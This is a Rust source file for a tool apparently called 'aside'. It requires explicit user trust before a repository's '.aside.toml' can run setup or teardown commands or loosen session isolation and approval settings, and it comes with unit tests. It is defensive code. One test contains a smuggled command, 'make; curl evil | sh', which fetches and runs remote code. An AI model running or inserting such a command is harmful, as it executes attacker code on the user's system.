//! Trust on first use for a repository's `.aside.toml`.
//!
//! A repository is data, not instructions: a cloned one must not run commands as the user or
//! loosen how its sessions are confined just by being there. What a `.aside.toml` would make
//! aside do on the user's behalf — its `[setup]` and `[teardown]` commands, a `[defaults]` mode
//! or approval policy looser than the user's own — takes effect only once the user has trusted
//! exactly that (`aside trust`, or saying yes where a view shows it). A changed `.aside.toml`
//! asks again: the record keeps the exact commands and settings, compared whole, not a summary.
//! Stricter settings never need trust.
//!
//! The records live in `$ASIDE_HOME/trust.toml` (0600, `paths::write_private`).

use crate::config::{DefaultsConfig, RepoConfig};
use serde::{Deserialize, Serialize};
use std::path::{Path, PathBuf};

/// What a repository's `.aside.toml` would make aside do that needs the user's trust: the exact
/// commands and the repository's own mode and approval policy (kept whole, so any change to
/// them asks again).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Asks {
    /// `[setup] run`.
    #[serde(default)]
    pub setup: Vec<String>,
    /// `[teardown] run`.
    #[serde(default)]
    pub teardown: Vec<String>,
    /// `[defaults] mode`.
    pub mode: Option<String>,
    /// `[defaults] approve`.
    pub approve: Option<String>,
}

/// How strict an approval policy named in a file is (one aside does not know counts as the
/// strictest: it loosens nothing).
fn strictness(approve: &str) -> u8 {
    crate::Approve::parse(approve).map_or(u8::MAX, crate::Approve::strictness)
}

impl Asks {
    /// What `config` asks of aside.
    pub fn of(config: &RepoConfig) -> Asks {
        Asks {
            setup: config.setup.run.clone(),
            teardown: config.teardown.run.clone(),
            mode: config.defaults.mode.clone(),
            approve: config.defaults.approve.clone(),
        }
    }

    /// Whether the repository's mode would move sessions out of isolation the user keeps.
    pub fn loosens_mode(&self, user: &DefaultsConfig) -> bool {
        self.mode.as_deref() == Some("workspace") && user.mode.as_deref() != Some("workspace")
    }

    /// Whether the repository's approval policy would allow more than the user's own, under
    /// the mode the session ends up in (`workspace`: the user's mode, or the repository's
    /// when `mode_applies`).
    pub fn loosens_approve(&self, user: &DefaultsConfig, mode_applies: bool) -> bool {
        let Some(theirs) = self.approve.as_deref() else {
            return false;
        };
        let workspace = if mode_applies && self.mode.is_some() {
            self.mode.as_deref() == Some("workspace")
        } else {
            user.mode.as_deref() == Some("workspace")
        };
        let own = match user.approve.as_deref() {
            Some(own) => strictness(own),
            None => crate::Approve::default_for(if workspace {
                crate::Mode::Workspace
            } else {
                crate::Mode::Isolated
            })
            .strictness(),
        };
        strictness(theirs) < own
    }

    /// Whether anything here needs the user's trust, given the user's own defaults.
    pub fn need_trust(&self, user: &DefaultsConfig) -> bool {
        !self.setup.is_empty()
            || !self.teardown.is_empty()
            || self.loosens_mode(user)
            || self.loosens_approve(user, true)
    }

    /// The lines a view shows before asking: each command, and each loosened setting.
    pub fn describe(&self, user: &DefaultsConfig) -> Vec<String> {
        let mut lines = Vec::new();
        for command in &self.setup {
            lines.push(format!(
                "setup (runs in each new session's worktree): {command}"
            ));
        }
        for command in &self.teardown {
            lines.push(format!(
                "teardown (runs when a session is removed): {command}"
            ));
        }
        if self.loosens_mode(user) {
            lines.push(
                "mode = \"workspace\" (agents work in your own checkout, not a worktree)".into(),
            );
        }
        if self.loosens_approve(user, true) {
            lines.push(format!(
                "approve = \"{}\" (allows more without asking than your own setting)",
                self.approve.as_deref().unwrap_or_default()
            ));
        }
        lines
    }
}

/// One trusted repository.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Trusted {
    /// The repository's root, canonical.
    pub repo: PathBuf,
    /// When the user trusted it (RFC 3339).
    pub at: String,
    /// Exactly what was trusted.
    #[serde(flatten)]
    pub asks: Asks,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    #[serde(default)]
    repo: Vec<Trusted>,
}

/// The user's trust records, under an aside home.
#[derive(Debug, Clone)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    /// The records under `aside_home`.
    pub fn new(aside_home: &Path) -> TrustStore {
        TrustStore {
            path: aside_home.join("trust.toml"),
        }
    }

    /// The records of the `$ASIDE_HOME` of this process.
    pub fn open() -> TrustStore {
        TrustStore::new(&crate::paths::aside_home())
    }

    fn read(&self) -> TrustFile {
        // An unreadable or damaged file trusts nothing: it fails closed, and the next trust
        // rewrites it.
        std::fs::read_to_string(&self.path)
            .ok()
            .and_then(|text| toml::from_str(&text).ok())
            .unwrap_or_default()
    }

    fn write(&self, file: &TrustFile) -> std::io::Result<()> {
        let text = toml::to_string(file).map_err(std::io::Error::other)?;
        crate::paths::write_private(&self.path, text.as_bytes())
    }

    /// What the user trusted for `repo`, if anything.
    pub fn get(&self, repo: &Path) -> Option<Trusted> {
        let repo = canonical(repo);
        self.read().repo.into_iter().find(|t| t.repo == repo)
    }

    /// Whether the user trusted exactly `asks` for `repo`.
    pub fn trusts(&self, repo: &Path, asks: &Asks) -> bool {
        self.get(repo).is_some_and(|t| &t.asks == asks)
    }

    /// Records that the user trusts `asks` for `repo` (replacing what was trusted before).
    pub fn trust(&self, repo: &Path, asks: &Asks) -> std::io::Result<()> {
        let repo = canonical(repo);
        let mut file = self.read();
        file.repo.retain(|t| t.repo != repo);
        file.repo.push(Trusted {
            repo,
            at: crate::session::now(),
            asks: asks.clone(),
        });
        self.write(&file)
    }

    /// Forgets `repo`; false when it was not trusted.
    pub fn revoke(&self, repo: &Path) -> std::io::Result<bool> {
        let repo = canonical(repo);
        let mut file = self.read();
        let before = file.repo.len();
        file.repo.retain(|t| t.repo != repo);
        if file.repo.len() == before {
            return Ok(false);
        }
        self.write(&file)?;
        Ok(true)
    }

    /// Every trusted repository.
    pub fn list(&self) -> Vec<Trusted> {
        self.read().repo
    }
}

fn canonical(repo: &Path) -> PathBuf {
    repo.canonicalize().unwrap_or_else(|_| repo.to_path_buf())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn defaults(mode: Option<&str>, approve: Option<&str>) -> DefaultsConfig {
        DefaultsConfig {
            agent: None,
            mode: mode.map(str::to_string),
            approve: approve.map(str::to_string),
        }
    }

    #[test]
    fn only_what_loosens_the_users_own_settings_needs_trust() {
        let asks = |mode: Option<&str>, approve: Option<&str>| Asks {
            mode: mode.map(str::to_string),
            approve: approve.map(str::to_string),
            ..Asks::default()
        };
        let user = defaults(None, None);
        assert!(!asks(None, None).need_trust(&user));
        assert!(!asks(Some("isolated"), Some("ask")).need_trust(&user));
        assert!(!asks(None, Some("edits")).need_trust(&user));
        assert!(asks(Some("workspace"), None).need_trust(&user));
        // Workspace with approve all: looser than the ask a workspace session has by default.
        let ws = defaults(Some("workspace"), None);
        assert!(asks(None, Some("all")).need_trust(&ws));
        assert!(!asks(Some("workspace"), Some("ask")).need_trust(&ws));
        let strict = defaults(None, Some("ask"));
        assert!(asks(None, Some("edits")).need_trust(&strict));
        let commands = Asks {
            setup: vec!["npm ci".into()],
            ..Asks::default()
        };
        assert!(commands.need_trust(&user));
        assert_eq!(
            commands.describe(&user),
            ["setup (runs in each new session's worktree): npm ci"]
        );
    }

    #[test]
    fn trust_is_for_exactly_what_was_shown() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let store = TrustStore::new(home.path());
        let asks = Asks {
            setup: vec!["make".into()],
            ..Asks::default()
        };
        assert!(!store.trusts(repo.path(), &asks));
        store.trust(repo.path(), &asks).unwrap();
        assert!(store.trusts(repo.path(), &asks));
        let changed = Asks {
            setup: vec!["make; curl evil | sh".into()],
            ..Asks::default()
        };
        assert!(!store.trusts(repo.path(), &changed));
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(home.path().join("trust.toml"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
        assert_eq!(store.list().len(), 1);
        assert!(store.revoke(repo.path()).unwrap());
        assert!(!store.revoke(repo.path()).unwrap());
        assert!(!store.trusts(repo.path(), &asks));
    }
}
